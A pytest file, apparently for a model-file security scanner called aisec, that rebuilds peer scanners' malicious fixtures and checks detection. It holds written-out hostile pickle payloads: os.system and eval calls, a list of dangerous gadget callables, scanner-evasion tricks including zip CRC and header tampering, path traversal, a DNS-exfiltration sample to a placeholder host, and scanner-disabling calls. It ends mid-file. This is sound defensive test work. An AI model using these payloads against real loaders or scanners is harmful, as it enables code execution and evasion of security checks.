"""Peer scanners' public test fixtures, rebuilt here from their techniques (never their bytes).

Sources read: mmaitre314/picklescan (tests/init_data_files.py, tests/test_scanner.py, the GHSA
advisories behind tests/data2/), protectai/modelscan (tests/), trailofbits/fickling (test/),
promptfoo/modelaudit (tests/assets/generators/, tests/scanners/), JFrog's picklescan zero-days
(CVE-2025-10155/10156/10157) and ReversingLabs' nullifAI write-up. Each builder writes the bytes
itself; nothing here unpickles, imports or loads a sample.

Every test pins the verdict and the rule aisec reports today, so a change in detection shows up
as a failing test. A technique aisec misses (clean or error where a peer flags it), and a benign
peer fixture aisec flags, is marked ``xfail(strict=True)`` with what the scanner would need.
Duplicates of ``corpus.py`` (test_bypasses_pickle.py) and test_bypasses_formats.py are left out.
"""

from __future__ import annotations

import gzip
import io
import json
import pickle
import stat
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import h5py
import numpy as np
import pytest
from _formats_samples import keras_archive, keras_sequential, saved_model, tf_graph, tf_node
from corpus import (
    CANARY,
    CMD,
    EMPTY_DICT,
    EMPTY_TUPLE,
    MARK,
    MEMOIZE,
    NONE,
    POP,
    PROTO2,
    PROTO4,
    REDUCE,
    SETITEM,
    STACK_GLOBAL,
    STOP,
    TUPLE1,
    TUPLE2,
    _patch_flags,
    _stream_starts,
    by,
    g0,
    os_system_proto,
    sg,
    u,
)

from aisec.artifacts import scan_path

BUILD = b"b"
NEWOBJ = b"\x81"
TUPLE = b"t"


# -- helpers ---------------------------------------------------------------------------------
def _scan(tmp_path: Path, name: str, data: bytes) -> tuple[str, set[str]]:
    """Write ``data`` as ``name``, scan it like ``aisec scan`` does; (top verdict, all rules)."""
    path = tmp_path / name
    path.write_bytes(data)
    report = scan_path(path)
    assert report.files[0].path == str(path)
    assert not (tmp_path / CANARY).exists(), "a sample was executed"
    assert not (Path.cwd() / CANARY).exists(), "a sample was executed"
    return report.files[0].verdict, {f.rule_id for f in report.findings}


def _expect(tmp_path: Path, name: str, data: bytes, verdict: str, *rules: str) -> None:
    got, found = _scan(tmp_path, name, data)
    assert set(rules) <= found, f"{sorted(rules)} not all in {sorted(found)}"
    assert got == verdict, f"verdict {got}, rules {sorted(found)}"


def _flagged(tmp_path: Path, name: str, data: bytes) -> None:
    """For a miss: passes once aisec flags the file at all, whatever the rule."""
    got, found = _scan(tmp_path, name, data)
    assert got in ("malicious", "suspicious"), f"verdict {got}, rules {sorted(found)}"


def _clean(tmp_path: Path, name: str, data: bytes) -> None:
    got, found = _scan(tmp_path, name, data)
    assert got == "clean", f"verdict {got}, rules {sorted(found)}"


def _call(func: bytes, *args: bytes) -> bytes:
    """``func(*args)``: MARK, the arguments, TUPLE, REDUCE."""
    return func + MARK + b"".join(args) + TUPLE + REDUCE


def _text(value: str) -> bytes:
    """Protocol-0 STRING (``S'...'``)."""
    return b"S'" + value.encode() + b"'\n"


def _zip(*members: tuple[str | zipfile.ZipInfo, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, data in members:
            zf.writestr(name, data)
    return buf.getvalue()


EVAL_PICKLE = PROTO4 + _call(sg("builtins", "eval"), u("print('456')")) + STOP


# -- stdlib, third-party and torch callables that run code, read files or open sockets --------
# (test id, module, qualified name, verdict, rule). Each is pickled as ``module.name('x')``.
GADGETS: list[tuple[str, str, str, str, str]] = [
    # picklescan tests/init_data_files.py Malicious3..Malicious22
    ("py2_httplib_https_connection", "httplib", "HTTPSConnection", "malicious",
     "pickle-dangerous-call"),  # malicious3.pkl (protocol 0 writes the Python 2 name)
    ("requests_api_get", "requests.api", "get", "malicious", "pickle-dangerous-call"),
    ("aiohttp_client_session", "aiohttp.client", "ClientSession", "malicious",
     "pickle-dangerous-call"),  # malicious5.pickle
    ("socket_create_connection", "socket", "create_connection", "malicious",
     "pickle-dangerous-call"),  # malicious7.pkl
    ("subprocess_run", "subprocess", "run", "malicious", "pickle-dangerous-call"),  # malicious8
    ("sys_exit", "sys", "exit", "malicious", "pickle-dangerous-call"),  # malicious9.pkl
    ("runpy_run_code", "runpy", "_run_code", "malicious", "pickle-dangerous-call"),  # malicious14
    ("pip_main_install", "pip", "main", "malicious", "pickle-dangerous-call"),  # malicious16.pkl
    ("torch_inductor_compile_file", "torch._inductor.codecache", "compile_file", "malicious",
     "pickle-dangerous-call"),  # malicious17.pkl
    ("pydoc_pipepager", "pydoc", "pipepager", "malicious", "pickle-dangerous-call"),  # malicious18
    ("venv_create_prompt_injection", "venv", "create", "malicious",
     "pickle-dangerous-call"),  # malicious20.pkl
    ("timeit_timeit", "timeit", "timeit", "malicious", "pickle-dangerous-call"),  # malicious21
    ("numpy_testing_runstring", "numpy.testing._private.utils", "runstring", "malicious",
     "pickle-dangerous-call"),  # malicious22.pkl
    # picklescan tests/data2/GHSA-*.pkl (advisory ids in the test ids)
    ("ghsa_4r9r_bottleneck_run_cprofile", "torch.utils.bottleneck.__main__", "run_cprofile",
     "malicious", "pickle-dangerous-call"),
    ("ghsa_4whj_bottleneck_run_autograd_prof", "torch.utils.bottleneck.__main__",
     "run_autograd_prof", "malicious", "pickle-dangerous-call"),
    ("ghsa_86cj_dynamo_guardbuilder_get", "torch._dynamo.guards", "GuardBuilder.get",
     "malicious", "pickle-dangerous-call"),
    ("ghsa_f4x7_shapeenv_evaluate_guards", "torch.fx.experimental.symbolic_shapes",
     "ShapeEnv.evaluate_guards_expression", "malicious", "pickle-dangerous-call"),
    ("ghsa_f745_collect_env_run", "torch.utils.collect_env", "run", "malicious",
     "pickle-dangerous-call"),
    ("ghsa_h3qp_datapipes_basichandlers", "torch.utils.data.datapipes.utils.decoder",
     "basichandlers", "malicious", "pickle-dangerous-call"),
    ("ghsa_vr7h_jit_exec_wrapper", "torch.jit.unsupported_tensor_ops", "execWrapper",
     "malicious", "pickle-dangerous-call"),
    ("ghsa_vv6j_config_module_load_config", "torch.utils._config_module",
     "ConfigModule.load_config", "malicious", "pickle-dangerous-call"),
    ("ghsa_5qwp_trace_run", "trace", "Trace.run", "malicious", "pickle-dangerous-call"),
    ("ghsa_g344_trace_runctx", "trace", "Trace.runctx", "malicious", "pickle-dangerous-call"),
    ("ghsa_x696_profile_run_method", "profile", "Profile.run", "malicious",
     "pickle-dangerous-call"),
    ("ghsa_6vqj_profile_runctx_method", "profile", "Profile.runctx", "malicious",
     "pickle-dangerous-call"),
    ("ghsa_7wx9_profile_run_module_level", "profile", "run", "malicious",
     "pickle-dangerous-call"),
    ("ghsa_9w88_cprofile_runctx", "cProfile", "runctx", "malicious", "pickle-dangerous-call"),
    ("ghsa_f54q_lib2to3_grammar_loads", "lib2to3.pgen2.grammar", "Grammar.loads", "malicious",
     "pickle-dangerous-call"),
    ("ghsa_p9w7_lib2to3_make_label", "lib2to3.pgen2.pgen", "ParserGenerator.make_label",
     "malicious", "pickle-dangerous-call"),
    ("ghsa_3vg9_idlelib_settext", "idlelib.debugobj", "ObjectTreeItem.SetText", "malicious",
     "pickle-dangerous-call"),
    ("ghsa_6w4w_idlelib_get_entity", "idlelib.autocomplete", "AutoComplete.get_entity",
     "malicious", "pickle-dangerous-call"),
    ("ghsa_7cq8_idlelib_fetch_completions", "idlelib.autocomplete",
     "AutoComplete.fetch_completions", "malicious", "pickle-dangerous-call"),
    ("ghsa_8r4j_idlelib_fetch_tip", "idlelib.calltip", "Calltip.fetch_tip", "malicious",
     "pickle-dangerous-call"),
    ("ghsa_9xph_idlelib_calltip_get_entity", "idlelib.calltip", "get_entity", "malicious",
     "pickle-dangerous-call"),
    ("ghsa_m869_idlelib_executive_runcode", "idlelib.run", "Executive.runcode", "malicious",
     "pickle-dangerous-call"),
    ("ghsa_j343_idlelib_runcommand", "idlelib.pyshell", "ModifiedInterpreter.runcommand",
     "malicious", "pickle-dangerous-call"),
    ("ghsa_3gf5_idlelib_runcode", "idlelib.pyshell", "ModifiedInterpreter.runcode", "malicious",
     "pickle-dangerous-call"),
    ("ghsa_cj3c_interactive_interpreter_runcode", "code", "InteractiveInterpreter.runcode",
     "malicious", "pickle-dangerous-call"),
    ("ghsa_xp4f_ensurepip_run_pip", "ensurepip", "_run_pip", "malicious",
     "pickle-dangerous-call"),
    ("ghsa_fqq6_doctest_debug_script", "doctest", "debug_script", "malicious",
     "pickle-dangerous-call"),
    # CVE-2025-10157 (JFrog) / GHSA-q77w-mwjj-7mqx: a dotted name inside a submodule
    ("ghsa_q77w_unix_subprocess_transport_start", "asyncio.unix_events",
     "_UnixSubprocessTransport._start", "malicious", "pickle-dangerous-call"),
    ("ghsa_m273_distutils_write_file", "distutils.file_util", "write_file", "malicious",
     "pickle-dangerous-call"),
    ("ghsa_r8g5_numpy_f2py_getlincoef", "numpy.f2py.crackfortran", "getlincoef", "malicious",
     "pickle-dangerous-call"),
    ("io_fileio_read_etc_hosts", "_io", "FileIO", "malicious", "pickle-dangerous-call"),
    ("urllib_request_urlopen", "urllib.request", "urlopen", "malicious", "pickle-dangerous-call"),
    # GHSA-g38g-8gr9-h9xp: stdlib functions that shell out
    ("ghsa_g38g_uuid_get_command_stdout", "uuid", "_get_command_stdout", "malicious",
     "pickle-dangerous-call"),
    ("ghsa_g38g_imaplib_imap4_stream", "imaplib", "IMAP4_stream", "malicious",
     "pickle-dangerous-call"),
    ("ghsa_g38g_codeop_compile_command", "codeop", "compile_command", "malicious",
     "pickle-dangerous-call"),
    # private stdlib helpers that shell out or byte-compile files, file-opening log handlers
    ("ghsa_g38g_osx_support_read_output", "_osx_support", "_read_output", "malicious",
     "pickle-dangerous-call"),
    ("ghsa_g38g_osx_support_find_build_tool", "_osx_support", "_find_build_tool", "malicious",
     "pickle-dangerous-call"),
    ("ghsa_g38g_aix_support_read_cmd_output", "_aix_support", "_read_cmd_output", "malicious",
     "pickle-dangerous-call"),
    ("ghsa_g38g_pyrepl_pipe_pager", "_pyrepl.pager", "pipe_pager", "malicious",
     "pickle-dangerous-call"),
    ("ghsa_g38g_pyrepl_tempfile_pager", "_pyrepl.pager", "tempfile_pager", "malicious",
     "pickle-dangerous-call"),
    ("ghsa_g38g_test_support_assert_python_ok", "test.support.script_helper",
     "assert_python_ok", "malicious", "pickle-dangerous-call"),
    ("ghsa_g38g_compileall_compile_dir", "compileall", "compile_dir", "malicious",
     "pickle-dangerous-call"),
    ("ghsa_g38g_py_compile_compile", "py_compile", "compile", "malicious",
     "pickle-dangerous-call"),
    ("logging_filehandler_truncates_file", "logging", "FileHandler", "malicious",
     "pickle-dangerous-call"),  # picklescan tests/data2/logging_FileHandler.pkl
    ("logging_rotating_file_handler", "logging.handlers", "RotatingFileHandler", "malicious",
     "pickle-dangerous-call"),
    ("logging_watched_file_handler", "logging.handlers", "WatchedFileHandler", "malicious",
     "pickle-dangerous-call"),
    # protectai/modelscan tests/test_pickle_unsafe_globals.py, tests/test_ctypes_blocklist.py
    ("mailcap_findmatch_runs_test_command", "mailcap", "findmatch", "malicious",
     "pickle-dangerous-call"),
    ("signal_raise_signal", "signal", "raise_signal", "malicious", "pickle-dangerous-call"),
    ("underscore_signal_raise_signal", "_signal", "raise_signal", "malicious",
     "pickle-dangerous-call"),
    # promptfoo/modelaudit tests/assets/pickles/bypass_pocs/gen_bypass_v4.py (POC 27-34)
    ("pdb_run", "pdb", "run", "malicious", "pickle-dangerous-call"),
    ("thread_allocate_lock", "_thread", "allocate_lock", "malicious", "pickle-dangerous-call"),
    ("ctypes_cast", "ctypes", "cast", "malicious", "pickle-dangerous-call"),
    ("linecache_getline_reads_file", "linecache", "getline", "malicious",
     "pickle-dangerous-call"),
    ("logging_config_listen", "logging.config", "listen", "malicious", "pickle-dangerous-call"),
    ("zipimport_zipimporter", "zipimport", "zipimporter", "malicious", "pickle-dangerous-call"),
    # trailofbits/fickling test/test_bypasses.py test_network_protocol_ssrf
    ("ssrf_smtplib_smtp", "smtplib", "SMTP", "malicious", "pickle-dangerous-call"),
    ("ssrf_imaplib_imap4", "imaplib", "IMAP4", "malicious", "pickle-dangerous-call"),
    ("ssrf_ftplib_ftp", "ftplib", "FTP", "malicious", "pickle-dangerous-call"),
    ("ssrf_poplib_pop3", "poplib", "POP3", "malicious", "pickle-dangerous-call"),
    ("ssrf_telnetlib_telnet", "telnetlib", "Telnet", "malicious", "pickle-dangerous-call"),
    ("ssrf_nntplib_nntp", "nntplib", "NNTP", "malicious", "pickle-dangerous-call"),
    # fickling test/test_scanner_deactivation_analysis.py: a pickle that switches the scanner off
    ("fickling_hook_remove_hook", "fickling.hook", "remove_hook", "malicious",
     "pickle-dangerous-call"),
    ("fickling_deactivate_safe_ml_environment", "fickling.hook",
     "deactivate_safe_ml_environment", "malicious", "pickle-dangerous-call"),
    ("picklescan_scanner_tampering", "picklescan.scanner", "scan_pickle_bytes", "malicious",
     "pickle-dangerous-call"),
    ("modelscan_settings_tampering", "modelscan.settings", "DEFAULT_SETTINGS", "malicious",
     "pickle-dangerous-call"),
    ("modelaudit_tampering", "modelaudit.core", "scan_model_directory_or_file", "malicious",
     "pickle-dangerous-call"),
    # fickling test/test_cve_patterns.py (CVE-2025-10157 submodules) and test_attack_vectors.py
    ("submodule_ctypes_util_find_library", "ctypes.util", "find_library", "malicious",
     "pickle-dangerous-call"),
    ("submodule_importlib_util_find_spec", "importlib.util", "find_spec", "malicious",
     "pickle-dangerous-call"),
    ("os_path_resolves_to_posixpath", "posixpath", "join", "malicious", "pickle-dangerous-call"),
    ("runpy_run_module", "runpy", "run_module", "malicious", "pickle-dangerous-call"),
    ("code_interactive_console", "code", "InteractiveConsole", "malicious",
     "pickle-dangerous-call"),
    ("os_execv", "os", "execv", "malicious", "pickle-dangerous-call"),
    ("os_popen", "os", "popen", "malicious", "pickle-dangerous-call"),
    ("subprocess_check_output", "subprocess", "check_output", "malicious",
     "pickle-dangerous-call"),
    ("builtins_compile", "builtins", "compile", "malicious", "pickle-dangerous-call"),
    # code-object builders: picklescan cloudpickle_codeinjection.pkl and types_CodeType.pkl,
    # modelscan tests/test_utils.py (dill pickler)
    ("cloudpickle_make_function", "cloudpickle.cloudpickle", "_make_function", "malicious",
     "pickle-dangerous-call"),
    ("cloudpickle_builtin_type", "cloudpickle.cloudpickle", "_builtin_type", "malicious",
     "pickle-dangerous-call"),
    ("types_code_type", "types", "CodeType", "malicious", "pickle-dangerous-call"),
    ("dill_create_code", "dill._dill", "_create_code", "malicious", "pickle-dangerous-call"),
    ("dill_create_function", "dill._dill", "_create_function", "malicious",
     "pickle-dangerous-call"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("module", "name", "verdict", "rule"),
    [pytest.param(m, n, v, r, id=i) for i, m, n, v, r in GADGETS],
)
def test_gadget_call(module: str, name: str, verdict: str, rule: str, tmp_path: Path) -> None:
    _expect(tmp_path, "gadget.pkl", PROTO4 + _call(sg(module, name), u("x")) + STOP, verdict, rule)


# fickling test/test_attack_vectors.py test_types_functiontype, test_cve_patterns.py
# test_submodule_bypass_subprocess_internal / test_nested_module_in_unsafe_namespace /
# test_hierarchical_module_detection: the import alone, with no call
@pytest.mark.parametrize(
    ("module", "name"),
    [
        ("sys", "modules"),
        ("types", "FunctionType"),
        ("subprocess", "Popen"),
        ("multiprocessing.util", "spawnv_passfds"),
    ],
)
def test_bare_import_without_a_call(module: str, name: str, tmp_path: Path) -> None:
    data = PROTO4 + sg(module, name) + MEMOIZE + STOP
    _expect(tmp_path, "import.pkl", data, "malicious", "pickle-dangerous-global")


# -- pickle structure tricks -------------------------------------------------------------------
def test_sour_pickles_globals_compile_eval_apply(tmp_path: Path) -> None:
    # picklescan malicious0.pkl (Slaviero, "Sour Pickles", BH US 2011): protocol 0, memo
    # registers, getattr(dict, 'get') and apply() on the result of eval(compile(...))
    data = (
        g0("__builtin__", "globals") + b"(tRp1\n0"
        + g0("__builtin__", "compile") + b"(" + _text("x=1") + _text("") + _text("exec")
        + b"tRp2\n0"
        + g0("__builtin__", "eval") + b"(g2\ng1\ntRp3\n0"
        + g0("__builtin__", "getattr") + b"(" + g0("__builtin__", "dict") + _text("get")
        + b"tRp4\n0"
        + g0("__builtin__", "apply") + b"(g4\n(g1\n" + _text("x") + b"ltRp5\n0g5\n."
    )  # fmt: skip
    _expect(tmp_path, "sour.pkl", data, "malicious", "pickle-dangerous-call")


_CTF_DECOY = (
    # picklescan malicious11.pkl (imaginaryctf "Safe Pickle", picklescan issue #22): text
    # UNICODE/PUT/GET, no PROTO, torch.LongStorage parked in the memo as a decoy
    b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n"
    + STACK_GLOBAL
    + b"(Vid\ntR."
)


def test_ctf_text_memo_stack_global_with_torch_decoy(tmp_path: Path) -> None:
    _expect(tmp_path, "ctf.pkl", _CTF_DECOY, "malicious", "pickle-dangerous-call")


def test_ctf_payload_with_junk_after_stop(tmp_path: Path) -> None:
    # picklescan malicious-invalid-bytes.pkl: the same stream followed by whitespace junk
    data = _CTF_DECOY + b"\n\n\t\t"
    _expect(tmp_path, "junk.pkl", data, "malicious", "pickle-dangerous-call")


def test_string_opcodes_feed_stack_global_without_proto(tmp_path: Path) -> None:
    # picklescan malicious23.pkl, advisory GHSA-9gvj-pp9x-gcfr: protocol-0 STRING operands
    # for the protocol-4 STACK_GLOBAL, with no PROTO opcode at all
    data = _text("os") + _text("system") + STACK_GLOBAL + _text("id") + TUPLE1 + b"R."
    _expect(tmp_path, "strings.pkl", data, "malicious", "pickle-dangerous-call")


def test_payload_then_missing_memo_key(tmp_path: Path) -> None:
    # picklescan tests/data2/keyerror-exploit.pkl: the call runs, then BINGET of a memo key
    # that was never stored makes naive scanners raise and drop their findings
    data = (
        PROTO4 + g0("os", "system") + u("id") + TUPLE1 + REDUCE + POP
        + u("os") + MEMOIZE + b"h\x03h\x00" + STACK_GLOBAL + b"K\x42."
    )  # fmt: skip
    _expect(tmp_path, "keyerror.pkl", data, "malicious", "pickle-dangerous-call")


def test_payload_then_int_module_name(tmp_path: Path) -> None:
    # picklescan tests/data2/type-confusion-exploit.pkl: STACK_GLOBAL gets an int as module
    data = (
        PROTO4 + g0("os", "system") + u("id") + TUPLE1 + REDUCE + POP
        + b"J\x2a\x00\x00\x00" + MEMOIZE + u("os") + MEMOIZE + b"h\x00h\x01" + STACK_GLOBAL
        + b"K\x42."
    )  # fmt: skip
    _expect(tmp_path, "confused.pkl", data, "malicious", "pickle-dangerous-call")


def test_exec_import_with_length_overrun(tmp_path: Path) -> None:
    # picklescan broken_model.pkl: builtins.exec, then a BINUNICODE whose length runs past EOF
    data = b"cbuiltins\nexec\n(X>\nf = open('my_file.txt', 'a'); f.write('x')tRX."
    _expect(tmp_path, "broken.pkl", data, "malicious", "pickle-dangerous-global")


def test_inst_opcode_builtin_exec(tmp_path: Path) -> None:
    # picklescan malicious10.pkl: INST with the Python 2 module name
    data = b"(S'raise RuntimeError(1)'\ni__builtin__\nexec\n."
    _expect(tmp_path, "inst.pkl", data, "malicious", "pickle-dangerous-call")


def test_bdb_run_method_on_pickled_instance(tmp_path: Path) -> None:
    # picklescan malicious15a/b.pkl: Bdb.run(Bdb(), code), the instance built by NEWOBJ
    bdb = sg("bdb", "Bdb") + EMPTY_TUPLE + NEWOBJ
    data = PROTO4 + _call(sg("bdb", "Bdb.run"), bdb, u("import os")) + STOP
    _expect(tmp_path, "bdb.pkl", data, "malicious", "pickle-dangerous-call")


def test_partial_hides_torch_load_with_kwargs(tmp_path: Path) -> None:
    # picklescan malicious19.pkl: functools.partial(torch.load, path, weights_only=False)()
    # rebuilt through partial's __setstate__ (BUILD), then called with no arguments
    load = sg("torch.serialization", "load")
    state = (
        MARK + load + MARK + u("other.bin") + TUPLE
        + EMPTY_DICT + u("weights_only") + b"\x89" + SETITEM + NONE + TUPLE
    )  # fmt: skip
    data = (
        PROTO4 + sg("functools", "partial") + load + TUPLE1 + NEWOBJ + state + BUILD
        + EMPTY_TUPLE + REDUCE + STOP
    )  # fmt: skip
    _expect(tmp_path, "partial.pkl", data, "malicious", "pickle-dangerous-global")


def test_dangerous_global_passed_as_an_argument(tmp_path: Path) -> None:
    # picklescan GHSA-jhph-76pp-mggw: collect_env.run_and_read_all(collect_env.run, cmd)
    run = sg("torch.utils.collect_env", "run")
    data = PROTO4 + _call(sg("torch.utils.collect_env", "run_and_read_all"), run, u("id")) + STOP
    _expect(tmp_path, "jhph.pkl", data, "malicious", "pickle-dangerous-call")


def test_methodcaller_applied_to_pydoc_locate(tmp_path: Path) -> None:
    # picklescan GHSA-84r2-jw7c-4r5q: methodcaller('system', cmd)(pydoc.locate('os'))
    caller = _call(sg("operator", "methodcaller"), u("system"), u("id"))
    data = PROTO4 + caller + MARK + _call(sg("pydoc", "locate"), u("os")) + TUPLE + REDUCE + STOP
    _expect(tmp_path, "84r2.pkl", data, "malicious", "pickle-dangerous-call")


def test_underscore_operator_methodcaller_on_imported_module(tmp_path: Path) -> None:
    # picklescan GHSA-955r-x9j8-7rhh (also fickling test_operator_methodcaller)
    data = (
        g0("builtins", "__import__") + b"(Vos\ntRp0\n0"
        + g0("_operator", "methodcaller") + b"(Vsystem\nVecho x\ntR(g0\ntR."
    )  # fmt: skip
    _expect(tmp_path, "955r.pkl", data, "malicious", "pickle-dangerous-call")


def test_underscore_operator_attrgetter_on_imported_module(tmp_path: Path) -> None:
    # picklescan GHSA-46h3-79wf-xr6c and malicious12.pkl (pickleassem)
    data = (
        g0("builtins", "__import__") + b"(Vos\ntRp0\n0"
        + g0("_operator", "attrgetter") + b"(Vsystem\ntR(g0\ntR(Vid\ntR."
    )  # fmt: skip
    _expect(tmp_path, "46h3.pkl", data, "malicious", "pickle-dangerous-call")


def test_import_then_getattr_through_text_memo(tmp_path: Path) -> None:
    # fickling test_bypasses.py test_builtins_import_bypass (GHSA-h4rm-mm56-xf63)
    data = (
        g0("builtins", "__import__") + _text("os") + TUPLE1 + b"Rp0\n0"
        + g0("builtins", "getattr") + b"g0\n" + _text("system") + TUPLE2 + b"Rp1\n0"
        + b"g1\n" + _text("whoami") + TUPLE1 + b"R."
    )  # fmt: skip
    _expect(tmp_path, "h4rm.pkl", data, "malicious", "pickle-indirect-call")


def test_getattr_on_a_ctypes_cdll_instance(tmp_path: Path) -> None:
    # fickling test_bypasses.py test_missing_ctypes (GHSA-q5qq-mvfm-j35x, GHSA-5hvc-6wx8-mvv4)
    cdll = _call(sg("ctypes", "CDLL"), u("libc.so.6"))
    system = _call(sg("builtins", "getattr"), cdll, u("system"))
    data = PROTO4 + system + by(b"id") + TUPLE1 + REDUCE + STOP
    _expect(tmp_path, "ctypes.pkl", data, "malicious", "pickle-indirect-call")


def test_getattr_on_an_interactive_interpreter_instance(tmp_path: Path) -> None:
    # fickling test_bypasses.py test_missing_code (GHSA-q5qq-mvfm-j35x)
    interp = sg("code", "InteractiveInterpreter") + EMPTY_TUPLE + REDUCE
    runsource = _call(sg("builtins", "getattr"), interp, u("runsource"))
    data = PROTO4 + runsource + u("import os") + TUPLE1 + REDUCE + STOP
    _expect(tmp_path, "code.pkl", data, "malicious", "pickle-indirect-call")


def test_marshal_code_behind_an_empty_frame(tmp_path: Path) -> None:
    # fickling test_bypasses.py test_missing_marshal_and_types (GHSA-565g-hwwr-4pp3): FRAME(0),
    # marshal.loads -> FunctionType -> call, then BUILD on the result
    code = b"\xe3" + b"\0" * 40  # a marshalled code object's type byte; the scanner never loads it
    data = (
        PROTO4 + b"\x95" + struct.pack("<Q", 0)
        + sg("marshal", "loads") + MEMOIZE + b"h\x00" + by(code) + TUPLE1 + REDUCE + MEMOIZE
        + sg("types", "FunctionType") + MEMOIZE + b"h\x02h\x01" + EMPTY_DICT + TUPLE2 + REDUCE
        + MEMOIZE + b"h\x03" + EMPTY_TUPLE + REDUCE + MEMOIZE + u("gottem") + BUILD + STOP
    )  # fmt: skip
    _expect(tmp_path, "marshal.pkl", data, "malicious", "pickle-dangerous-call")


def test_payload_injected_before_the_model_in_one_stream(tmp_path: Path) -> None:
    # modelscan tests/test_utils.py PickleInject(first=True): the payload object is saved
    # first, then the real model, both on the stack when STOP returns the last one
    model = pickle.dumps({"w": [1.0, 2.0]}, protocol=4)[2:-1]
    data = PROTO4 + _call(sg("builtins", "exec"), u("print(1)")) + model + STOP
    _expect(tmp_path, "inject.pkl", data, "malicious", "pickle-dangerous-call")


def test_sys_modules_entry_overwritten_to_alias_os(tmp_path: Path) -> None:
    # picklescan sys_module_override_sploit.pkl (own reconstruction of the technique):
    # sys.modules['collections'] = os, then GLOBAL collections.system resolves to os.system
    data = (
        PROTO2 + g0("sys", "modules") + u("collections") + g0("posixpath", "os") + SETITEM + POP
        + g0("collections", "system") + u(CMD) + TUPLE1 + REDUCE + STOP
    )  # fmt: skip
    _expect(tmp_path, "sysmod.pkl", data, "malicious", "pickle-dangerous-global")


@pytest.mark.parametrize("name", ["model.pt", "pytorch_model.bin", "weights.pth"])
def test_plain_pickle_under_a_torch_file_name(name: str, tmp_path: Path) -> None:
    # CVE-2025-10155 (JFrog): a non-zip pickle named like a PyTorch file made picklescan try
    # its PyTorch parser only; picklescan GHSA-jgw4-cr84-mqxg.bin
    _expect(tmp_path, name, EVAL_PICKLE, "malicious", "pickle-dangerous-call")


def _legacy_torch() -> tuple[bytes, list[int]]:
    import torch

    buf = io.BytesIO()
    torch.save({"w": torch.zeros(2)}, buf, _use_new_zipfile_serialization=False)
    raw = buf.getvalue()
    return raw, _stream_starts(raw, 5)


def test_legacy_torch_payload_in_magic_number_slot(tmp_path: Path) -> None:
    # picklescan pytorch_magic_bypass.pt (own reconstruction): legacy torch.load unpickles the
    # magic number first, so eval() can compute it while the rest of the file stays valid
    raw, starts = _legacy_torch()
    magic = PROTO2 + _call(g0("__builtin__", "eval"), u("0x1950a86a20f9469cfc6c")) + STOP
    _expect(tmp_path, "magic.pt", magic + raw[starts[1] :], "malicious", "pickle-dangerous-call")


def test_legacy_torch_payload_in_protocol_version_slot(tmp_path: Path) -> None:
    # picklescan pytorch_magic_bypass.pt: the second stream (protocol version) runs too
    raw, starts = _legacy_torch()
    version = PROTO2 + _call(g0("posix", "system"), u(CMD)) + POP + b"K\x03" + STOP
    data = raw[: starts[1]] + version + raw[starts[2] :]
    _expect(tmp_path, "version.pt", data, "malicious", "pickle-dangerous-call")


def test_npy_object_array_dns_exfiltration(tmp_path: Path) -> None:
    # picklescan tests/data2/dns_exfiltration.npy: ssl.get_server_certificate((host, 443))
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(
        header, {"descr": "|O", "fortran_order": False, "shape": (1,)}
    )
    host = u("root_x_0_0.dns-logger.invalid") + b"M\xbb\x01" + TUPLE2
    payload = PROTO2 + _call(g0("ssl", "get_server_certificate"), host) + TUPLE1 + STOP
    _expect(tmp_path, "dns.npy", header.getvalue() + payload, "malicious", "pickle-dangerous-call")


# -- zip, tar and 7z containers ---------------------------------------------------------------
def test_zip_local_header_name_differs_from_central(tmp_path: Path) -> None:
    # picklescan malicious1_central_directory.zip: first "data.pkl" (local header) -> "datap.kl"
    data = _zip(("data.pkl", EVAL_PICKLE)).replace(b"data.pkl", b"datap.kl", 1)
    _expect(tmp_path, "cd.zip", data, "malicious", "pickle-dangerous-call", "zip-name-mismatch")


def test_zip_member_bytes_edited_after_crc(tmp_path: Path) -> None:
    # picklescan tests/data2/malicious1_crc.zip (CVE-2025-10156): the payload text is changed
    # after zipping, so Python's zipfile raises on the CRC while torch.load does not check it
    data = _zip(("data.pkl", EVAL_PICKLE)).replace(b"print('456')", b"print('123')", 1)
    _expect(tmp_path, "crc.zip", data, "malicious", "pickle-dangerous-call", "zip-crc-mismatch")


def test_zip_central_directory_crc_flipped(tmp_path: Path) -> None:
    # fickling test/test_cve_patterns.py create_corrupted_zip_with_pickle (CVE-2025-10156)
    data = bytearray(_zip(("data.pkl", EVAL_PICKLE)))
    crc_at = data.find(b"PK\x01\x02") + 16
    data[crc_at : crc_at + 4] = bytes(b ^ 0xFF for b in data[crc_at : crc_at + 4])
    rules = ("pickle-dangerous-call", "zip-crc-mismatch")
    _expect(tmp_path, "cdcrc.zip", bytes(data), "malicious", *rules)


@pytest.mark.parametrize("flag", [0x20, 0x40], ids=["patched_data", "strong_encryption"])
def test_zip_general_purpose_flag_set(flag: int, tmp_path: Path) -> None:
    # picklescan malicious1_0x20.zip and malicious1_0x40.zip
    data = _patch_flags(_zip(("data.pkl", EVAL_PICKLE)), "data.pkl", flag)
    _expect(tmp_path, "flag.zip", data, "malicious", "pickle-dangerous-call")


def test_zip_with_junk_before_it(tmp_path: Path) -> None:
    # fickling test/test_polyglot.py prepend_random_string: bytes before the zip, which zip
    # readers still open (they find the end record from the back)
    inner = _zip(("model.pkl", EVAL_PICKLE), method=zipfile.ZIP_DEFLATED)
    data = b"Rk3x9QpLm2Zt8Wv5Yb1N" + inner
    rules = ("polyglot-embedded-zip", "pickle-dangerous-call")
    _expect(tmp_path, "prefixed.zip", data, "malicious", *rules)


def test_torch_zip_with_data_pkl_at_the_root(tmp_path: Path) -> None:
    # modelaudit tests/assets/generators/generate_security_assets.py write_pytorch_zip
    data = _zip(("version", b"3"), ("data.pkl", EVAL_PICKLE))
    _expect(tmp_path, "malicious_eval.pt", data, "malicious", "pickle-dangerous-call")


def test_zip_traversal_member_beside_a_pickle(tmp_path: Path) -> None:
    # modelaudit generate_security_assets.py make_archive_security_files (path_traversal.zip)
    data = _zip(("../../../etc/evil.txt", b"x"), ("model/malicious.pkl", os_system_proto(2)))
    rules = ("archive-path-traversal", "pickle-dangerous-call")
    _expect(tmp_path, "traversal.zip", data, "malicious", *rules)


@pytest.mark.parametrize("member", ["/etc/passwd", "..\\evil.txt"], ids=["absolute", "backslash"])
